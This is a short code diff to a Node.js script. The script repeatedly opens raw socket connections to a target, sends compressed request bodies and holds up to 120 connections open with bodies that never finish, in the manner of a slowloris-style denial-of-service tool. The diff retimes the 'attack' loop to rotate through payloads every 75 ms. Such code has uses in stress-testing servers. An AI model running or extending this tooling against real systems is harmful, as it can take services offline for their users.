@@ -3,8 +3,8 @@ import { connect } from 'node:net';
 import { createInterface } from 'node:readline';
 import { brotliCompressSync, constants, gzipSync } from 'node:zlib';
 
-/** Each attack begins anew this often. */
-const EVERY_MS = 250;
+/** Between two attacks, so that each begins anew every second. */
+const EVERY_MS = 75;
 /** Connections with a body that does not end; the oldest goes when one is added. */
 const UNFINISHED = 120;
 
@@ -67,14 +67,13 @@ function send(bytes) {
   return socket;
 }
 
+let turn = 0;
 setInterval(() => {
   if (!target) return;
-
-  for (const bytes of finished) {
-    const socket = send(bytes);
-    setTimeout(() => socket.destroy(), 3_000);
-  }
-  for (const bytes of unfinished) held.push(send(bytes));
+  turn++;
+  const socket = send(finished[turn % finished.length]);
+  setTimeout(() => socket.destroy(), 3_000);
+  held.push(send(unfinished[turn % unfinished.length]));
   while (held.length > UNFINISHED) held.shift().destroy();
 }, EVERY_MS);
 
